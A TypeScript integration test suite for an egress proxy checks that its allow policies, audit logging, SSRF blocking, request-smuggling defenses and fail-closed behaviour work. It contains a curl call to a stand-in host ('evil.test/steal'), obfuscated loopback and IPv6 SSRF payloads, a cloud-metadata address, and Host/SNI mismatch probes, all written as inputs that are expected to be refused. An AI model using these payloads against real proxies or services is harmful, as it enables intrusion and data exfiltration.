// The egress proxy with real clients (curl, node) from the host against real
// loopback servers. Names map to 127.0.0.1 through the injected resolver.
import { join } from 'node:path';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { request } from 'node:http';
import { MemoryAuditSink, type AuditFields } from '../../src/audit/events.js';
import { startEgressProxy, type EgressProxy } from '../../src/egress/proxy.js';
import { parsePolicyText } from '../../src/policy/load.js';
import { close, httpServer, httpsServer, listen, raw, run, tmp, upstreamTls, viaSocket } from './helpers.js';
import { writeFileSync } from 'node:fs';
import type { Server } from 'node:http';

const dir = tmp('egress');
const up = upstreamTls(['api.test']);
let plainPort = 0;
let tlsPort = 0;
let localPort = 0;
let plain: Server;
let secure: Server;
let local: Server;
let proxy: EgressProxy;
const audit = new MemoryAuditSink();
const resolved: string[] = [];
const caFile = join(dir, 'job-ca.pem');

beforeAll(async () => {
  plain = httpServer();
  secure = httpsServer(up.cert);
  local = httpServer((req, res) => res.end(`local ${req.method} ${req.url}`));
  [plainPort, tlsPort, localPort] = await Promise.all([listen(plain), listen(secure), listen(local)]);
  const policy = parsePolicyText(
    `version: 1
network_policies:
  test:
    endpoints:
      - { host: plain.test, port: ${plainPort}, allowed_ips: ["127.0.0.0/8"] }
      - { host: tunnel.test, port: ${tlsPort}, allowed_ips: ["127.0.0.0/8"] }
      - host: api.test
        port: ${tlsPort}
        protocol: rest
        access: read-only
        deny_rules: [{ path: "/admin/**" }]
        allowed_ips: ["127.0.0.0/8"]
      - host: web.test
        port: ${plainPort}
        protocol: rest
        access: read-only
        allowed_ips: ["127.0.0.0/8"]
      - { host: nossrf.test, port: ${plainPort} }
      - { host: metadata.test, port: 80 }
      - host: audited.test
        port: ${plainPort}
        protocol: rest
        access: read-only
        enforcement: audit
        allowed_ips: ["127.0.0.0/8"]
`,
    'test.yaml',
  );
  proxy = await startEgressProxy({
    policy,
    socketPath: join(dir, 'egress.sock'),
    port: 0,
    audit,
    caCertPath: caFile,
    upstreamCa: up.caPem,
    localRoutes: { 'inference.local': { host: '127.0.0.1', port: localPort } },
    resolver: async (host) => {
      resolved.push(host);
      return host === 'metadata.test' ? ['169.254.169.254'] : ['127.0.0.1'];
    },
  });
});

afterAll(async () => {
  await proxy.close();
  await Promise.all([close(plain), close(secure), close(local)]);
});

const curl = (...args: string[]) =>
  run('curl', ['-sS', '--max-time', '10', '--proxy', `http://127.0.0.1:${proxy.port}`, ...args]);
/** Tunnel events are written when both sides have closed, which can trail the client's exit. */
async function waitForEvent(pred: (e: AuditFields) => boolean) {
  for (let i = 0; i < 50; i++) {
    const e = audit.of('egress').findLast(pred);
    if (e) return e;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error('no such egress event');
}
const eventFor = (host: string) => waitForEvent((e) => e.host === host);

describe('egress proxy: allowed traffic', () => {
  test('plain HTTP absolute-URI to an L4 endpoint (curl), audited with bytes and no query', async () => {
    const r = await curl(`http://plain.test:${plainPort}/hello?token=secret`);
    expect(JSON.parse(r.stdout)).toMatchObject({
      method: 'GET',
      url: '/hello?token=secret',
      host: `plain.test:${plainPort}`,
    });
    const e = await waitForEvent((x) => x.host === 'plain.test' && x.path === '/hello');
    expect(e).toMatchObject({
      class_uid: 4002,
      activity: 'allow',
      host: 'plain.test',
      port: plainPort,
      method: 'GET',
      path: '/hello',
      status: 200,
    });
    expect(e.bytes_down as number).toBeGreaterThan(0);
    expect(JSON.stringify(audit.events)).not.toContain('secret');
    expect(JSON.stringify(audit.events)).not.toContain('x=1');
  });

  test('L4 CONNECT tunnel passes TLS end to end (curl trusts the upstream CA, not the job CA)', async () => {
    const upCa = join(dir, 'up-ca.pem');
    writeFileSync(upCa, up.caPem);
    // tunnel.test is not the name on the upstream cert: -k off would fail, so connect-to keeps SNI api.test.
    const r = await curl(
      '--cacert',
      upCa,
      '--connect-to',
      `api.test:${tlsPort}:tunnel.test:${tlsPort}`,
      `https://api.test:${tlsPort}/x`,
    );
    // curl sends CONNECT tunnel.test:PORT; the upstream's own certificate reaches curl unchanged.
    expect(r.stderr).toBe('');
    expect(JSON.parse(r.stdout)).toMatchObject({ url: '/x' });
    expect(await eventFor('tunnel.test')).toMatchObject({
      class_uid: 4001,
      activity: 'allow',
      host: 'tunnel.test',
      layer: 'l4',
    });
  });

  test('protocol rest over TLS: GET allowed through the job CA, POST and deny_rules refused with JSON', async () => {
    const get = await curl('--cacert', caFile, `https://api.test:${tlsPort}/repos?page=2`);
    expect(JSON.parse(get.stdout)).toMatchObject({ method: 'GET', url: '/repos?page=2' });
    const post = await curl(
      '--cacert',
      caFile,
      '-i',
      '-X',
      'POST',
      '-d',
      'x',
      `https://api.test:${tlsPort}/repos`,
    );
    expect(post.stdout).toMatch(/^HTTP\/1\.1 403/m);
    expect(post.stdout).toMatch(/x-nemoclaw-policy-layer: l7/i);
    const body = JSON.parse(post.stdout.slice(post.stdout.indexOf('{')));
    expect(body).toMatchObject({
      error: 'policy_denied',
      host: 'api.test',
      port: tlsPort,
      method: 'POST',
      path: '/repos',
    });
    expect(body.hint).toContain('method: POST');
    expect(
      await waitForEvent((e) => e.host === 'api.test' && e.class_uid === 4001 && e.inspected === true),
    ).toMatchObject({ layer: 'l4', activity: 'allow' });
    const admin = await curl(
      '--cacert',
      caFile,
      '-o',
      '/dev/null',
      '-w',
      '%{http_code}',
      `https://api.test:${tlsPort}/admin/x`,
    );
    expect(admin.stdout).toBe('403');
    expect(audit.of('egress').findLast((e) => e.method !== undefined)).toMatchObject({
      activity: 'deny',
      layer: 'l7',
      method: 'GET',
      path: '/admin/x',
      rule: 'test.endpoints[2].deny_rules[0]',
    });
  });

  test('node http client over the Unix socket', async () => {
    const r = await viaSocket(proxy.socketPath!, `http://web.test:${plainPort}/ok`);
    expect(r.status).toBe(200);
    const denied = await viaSocket(proxy.socketPath!, `http://web.test:${plainPort}/ok`, 'DELETE');
    expect(denied.status).toBe(403);
    expect(denied.headers['x-nemoclaw-policy-layer']).toBe('l7');
  });

  test('audit enforcement lets a denied request through as would_deny', async () => {
    const r = await curl('-X', 'POST', '-d', 'x', `http://audited.test:${plainPort}/p`);
    expect(JSON.parse(r.stdout)).toMatchObject({ method: 'POST', url: '/p', body: 1 });
    expect(await eventFor('audited.test')).toMatchObject({
      activity: 'would_deny',
      decision: 'would_deny',
      host: 'audited.test',
    });
  });

  test('local routes: CONNECT inference.local:80 with plain HTTP inside, and absolute-URI', async () => {
    const viaConnect = await curl('--proxytunnel', 'http://inference.local/v1/models');
    expect(viaConnect.stdout).toBe('local GET /v1/models');
    const absolute = await curl('-X', 'POST', 'http://inference.local/v1/chat/completions');
    expect(absolute.stdout).toBe('local POST /v1/chat/completions');
    expect(await eventFor('inference.local')).toMatchObject({ internal: true, policy: 'local' });
    expect(resolved).not.toContain('inference.local');
  });

  test('websocket upgrade inside an inspected tunnel passes when allowed', async () => {
    const sock = await new Promise<TLSSocket>((resolve, reject) => {
      const req = request({
        host: '127.0.0.1',
        port: proxy.port,
        method: 'CONNECT',
        path: `api.test:${tlsPort}`,
      });
      req.on('connect', (_res, s) => {
        const t = tlsConnect({ socket: s, servername: 'api.test', ca: proxy.caCertPem }, () => resolve(t));
        t.on('error', reject);
      });
      req.on('error', reject);
      req.end();
    });
    const text = await new Promise<string>((resolve) => {
      let out = '';
      sock.on('data', (d: Buffer) => {
        out += d.toString();
        if (out.includes('\r\n\r\n') && !out.endsWith('\r\n\r\n')) resolve(out);
        else if (out.endsWith('\r\n\r\n')) sock.write('ping');
      });
      sock.write(
        `GET /ws HTTP/1.1\r\nHost: api.test:${tlsPort}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
      );
    });
    sock.destroy();
    expect(text).toMatch(/^HTTP\/1\.1 101/);
    expect(text).toContain('echo:ping');
  });
});

describe('egress proxy: denials never dial', () => {
  test('unknown host: CONNECT and absolute-URI get 403 JSON with layer l4, name never resolved', async () => {
    const c = await curl('-i', '--proxytunnel', 'https://evil.test/');
    expect(c.stdout).toMatch(/^HTTP\/1\.1 403/);
    expect(c.stdout).toMatch(/x-nemoclaw-policy-layer: l4/i);
    const h = await curl('-i', 'http://evil.test/steal?x=1');
    expect(h.stdout).toMatch(/^HTTP\/1\.1 403/);
    expect(JSON.parse(h.stdout.slice(h.stdout.indexOf('{')))).toMatchObject({
      error: 'policy_denied',
      host: 'evil.test',
      port: 80,
    });
    expect(resolved).not.toContain('evil.test');
  });

  test('SSRF: allowed name resolving to loopback without allowed_ips, or to metadata', async () => {
    const a = await curl('-i', `http://nossrf.test:${plainPort}/`);
    expect(a.stdout).toMatch(/^HTTP\/1\.1 403/);
    expect(a.stdout).toMatch(/x-nemoclaw-policy-layer: ssrf/i);
    const m = await curl('-i', '--proxytunnel', 'http://metadata.test/');
    expect(m.stdout).toMatch(/x-nemoclaw-policy-layer: ssrf/i);
    const meta = await eventFor('metadata.test');
    expect(meta).toMatchObject({ activity: 'deny', layer: 'ssrf' });
    expect(meta.reason).toContain('metadata service');
  });

  test.each([
    ['decimal IP', '2130706433'],
    ['hex IP', '0x7f000001'],
    ['octal IP', '0177.0.0.1'],
    ['loopback IPv4', '127.0.0.1'],
    ['IPv6 loopback', '[::1]'],
    ['IPv4-mapped IPv6', '[::ffff:127.0.0.1]'],
    ['userinfo', 'plain.test@127.0.0.1'],
    ['percent-encoded dot', 'plain%2Etest'],
  ])('CONNECT to %s is refused', async (_n, host) => {
    const out = await raw(
      { port: proxy.port! },
      `CONNECT ${host}:${plainPort} HTTP/1.1\r\nHost: ${host}:${plainPort}\r\n\r\n`,
    );
    expect(out).toMatch(/^HTTP\/1\.1 (403|400)/);
  });

  test.each([
    ['decimal IP', `http://2130706433:PORT/`],
    ['IPv6', `http://[::1]:PORT/`],
    ['userinfo', `http://plain.test:PORT@127.0.0.1:PORT/`],
  ])('absolute-URI to %s is refused', async (_n, url) => {
    const u = url.replaceAll('PORT', String(plainPort));
    const out = await raw({ port: proxy.port! }, `GET ${u} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    expect(out).toMatch(/^HTTP\/1\.1 (403|400)/);
  });
});

describe('egress proxy: smuggling', () => {
  test('absolute-URI with a different Host header', async () => {
    const out = await raw(
      { path: proxy.socketPath! },
      `GET http://plain.test:${plainPort}/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`,
    );
    expect(out).toMatch(/^HTTP\/1\.1 403/);
    expect(out).toContain('does not match the request target');
  });

  test('Host header inside an inspected tunnel naming another host', async () => {
    const r = await curl('--cacert', caFile, '-H', 'Host: evil.test', '-i', `https://api.test:${tlsPort}/`);
    expect(r.stdout).toMatch(/^HTTP\/1\.1 403/m);
    expect(r.stdout).toContain('does not match the tunnel target');
  });

  test('SNI different from the CONNECT target fails the handshake', async () => {
    const err = await new Promise<string>((resolve) => {
      const req = request({
        host: '127.0.0.1',
        port: proxy.port,
        method: 'CONNECT',
        path: `api.test:${tlsPort}`,
      });
      req.on('connect', (_res, s) => {
        const t = tlsConnect({
          socket: s,
          servername: 'evil.test',
          ca: proxy.caCertPem,
          rejectUnauthorized: false,
        });
        t.on('secureConnect', () => resolve('connected'));
        t.on('error', (e) => resolve(e.message));
        t.on('close', () => resolve('closed'));
      });
      req.end();
    });
    expect(err).not.toBe('connected');
    expect(audit.of('egress').some((e) => String(e.reason).includes('SNI "evil.test"'))).toBe(true);
  });

  test('https:// absolute-URI (no CONNECT) and origin-form requests are refused', async () => {
    const a = await raw(
      { port: proxy.port! },
      `GET https://api.test:${tlsPort}/ HTTP/1.1\r\nHost: api.test:${tlsPort}\r\nConnection: close\r\n\r\n`,
    );
    expect(a).toMatch(/^HTTP\/1\.1 403/);
    const b = await raw(
      { port: proxy.port! },
      `GET / HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`,
    );
    expect(b).toMatch(/^HTTP\/1\.1 403/);
  });

  test('oversized headers get 431', async () => {
    const out = await raw(
      { port: proxy.port! },
      `GET http://plain.test:${plainPort}/ HTTP/1.1\r\nHost: plain.test:${plainPort}\r\nX: ${'a'.repeat(40_000)}\r\n\r\n`,
    );
    expect(out).toMatch(/^HTTP\/1\.1 431/);
  });
});

describe('egress proxy: fails closed', () => {
  test('proxy closed mid-transfer: the client sees a failure, not a complete body', async () => {
    const p2 = await startEgressProxy({
      policy: parsePolicyText(
        `version: 1\nnetwork_policies:\n  t:\n    endpoints:\n      - { host: plain.test, port: ${plainPort}, allowed_ips: ["127.0.0.0/8"] }\n`,
        'p.yaml',
      ),
      port: 0,
      resolver: async () => ['127.0.0.1'],
    });
    const result = await new Promise<string>((resolve) => {
      const req = request(
        {
          host: '127.0.0.1',
          port: p2.port,
          path: `http://plain.test:${plainPort}/stream`,
          headers: { host: `plain.test:${plainPort}` },
        },
        (res) => {
          let got = 0;
          res.on('data', (d: Buffer) => {
            got += d.length;
            if (got > 65536) void p2.close();
          });
          res.on('end', () => resolve(res.complete ? 'complete' : 'incomplete'));
          res.on('error', () => resolve('error'));
          res.on('aborted', () => resolve('aborted'));
        },
      );
      req.on('error', () => resolve('error'));
      req.end();
    });
    expect(result).not.toBe('complete');
    const after = await raw({ port: p2.port! }, 'x').catch((e: Error) => e.message);
    expect(after).toMatch(/ECONNREFUSED|^$/);
    expect(p2.summary().hosts[0]).toMatchObject({ host: 'plain.test', decision: 'allow' });
  });

  test('L4 tunnel cut by proxy close: the client sees the connection end early', async () => {
    const p3 = await startEgressProxy({
      policy: parsePolicyText(
        `version: 1\nnetwork_policies:\n  t:\n    endpoints:\n      - { host: plain.test, port: ${plainPort}, allowed_ips: ["127.0.0.0/8"] }\n`,
        'p.yaml',
      ),
      port: 0,
      resolver: async () => ['127.0.0.1'],
    });
    const got = await new Promise<number>((resolve) => {
      const req = request({
        host: '127.0.0.1',
        port: p3.port,
        method: 'CONNECT',
        path: `plain.test:${plainPort}`,
      });
      req.on('connect', (_res, s) => {
        let n = 0;
        s.on('data', (d: Buffer) => {
          n += d.length;
          if (n > 65536) void p3.close();
        });
        s.on('close', () => resolve(n));
        s.on('error', () => undefined);
        s.write(`GET /stream HTTP/1.1\r\nHost: plain.test\r\n\r\n`);
      });
      req.end();
    });
    expect(got).toBeLessThan(100 * 65536);
  });

  test('upstream dying mid-response: the client sees a failure, not a complete body', async () => {
    const dying = httpServer((_req, res) => {
      res.writeHead(200, { 'content-length': String(1 << 20) });
      res.write(Buffer.alloc(65536, 1), () => res.socket?.destroy());
    });
    const dyingPort = await listen(dying);
    const p4 = await startEgressProxy({
      policy: parsePolicyText(
        `version: 1\nnetwork_policies:\n  t:\n    endpoints:\n      - { host: dying.test, port: ${dyingPort}, allowed_ips: ["127.0.0.0/8"] }\n`,
        'p.yaml',
      ),
      port: 0,
      resolver: async () => ['127.0.0.1'],
    });
    const r = await run('curl', [
      '-sS',
      '--max-time',
      '10',
      '--proxy',
      `http://127.0.0.1:${p4.port}`,
      '-o',
      '/dev/null',
      `http://dying.test:${dyingPort}/`,
    ]);
    await p4.close();
    await close(dying);
    expect(r.code).not.toBe(0);
  });

  test('summary lists denied hosts with a suggested patch', () => {
    const s = proxy.summary();
    expect(s.deniedHosts).toContain('evil.test:443');
    expect(s.suggestedPatch).toContain('host: evil.test');
  });
});
